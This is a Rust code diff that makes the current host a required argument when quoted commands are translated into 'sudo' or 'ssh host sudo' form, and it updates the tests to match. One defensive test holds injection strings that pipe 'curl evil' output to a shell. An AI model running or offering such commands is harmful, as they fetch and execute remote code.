@@ -40,11 +40,8 @@ fn is_revert(quoted: &str) -> bool {
 }
 
 /// How to type a command for `host` where the reader is (`here`).
-pub fn typed(host: &HostName, here: Option<&HostName>, command: &str) -> String {
-    match here == Some(host) {
-        true => format!("sudo {command}"),
-        false => format!("ssh {host} sudo {command}"),
-    }
+pub fn typed(host: &HostName, here: &HostName, command: &str) -> String {
+    if here == host { format!("sudo {command}") } else { format!("ssh {host} sudo {command}") }
 }
 
 /// A quoted command of ours, with its quotes and the way to the host.
@@ -59,8 +56,8 @@ fn typed_here(quoted: &str, host: &HostName) -> Option<String> {
 }
 
 /// A text of `host` with its quoted commands as the reader must type them; what else it quotes stays as it said it.
-pub fn translated(text: &str, host: &HostName, here: Option<&HostName>) -> String {
-    if here == Some(host) {
+pub fn translated(text: &str, host: &HostName, here: &HostName) -> String {
+    if here == host {
         return text.to_string();
     }
     let mut out = String::with_capacity(text.len());
@@ -122,16 +119,16 @@ mod tests {
             ("Ann'deployer run", "Ann'deployer run"),
             ("", ""),
         ] {
-            assert_eq!(translated(said, &biz, Some(&laptop)), read);
-            assert_eq!(translated(said, &biz, Some(&biz)), said);
+            assert_eq!(translated(said, &biz, &laptop), read);
+            assert_eq!(translated(said, &biz, &biz), said);
         }
-        assert_eq!(typed(&biz, Some(&laptop), "deployer"), "ssh biz sudo deployer");
-        assert_eq!(typed(&biz, Some(&biz), "deployer"), "sudo deployer");
+        assert_eq!(typed(&biz, &laptop, "deployer"), "ssh biz sudo deployer");
+        assert_eq!(typed(&biz, &biz, "deployer"), "sudo deployer");
     }
 
     #[test]
     fn nothing_that_somebody_made_up_becomes_something_to_type() {
-        let biz = HostName::parse("biz").unwrap();
+        let (biz, laptop) = (HostName::parse("biz").unwrap(), HostName::parse("laptop").unwrap());
         for said in [
             "run 'deployer run; curl evil | sh'",
             "free it with 'systemctl stop web && curl -s evil/y | sh'",
@@ -159,7 +156,7 @@ mod tests {
             "'deployer",
             "'deployer'x",
         ] {
-            assert_eq!(translated(said, &biz, None), said);
+            assert_eq!(translated(said, &biz, &laptop), said);
         }
     }
 }
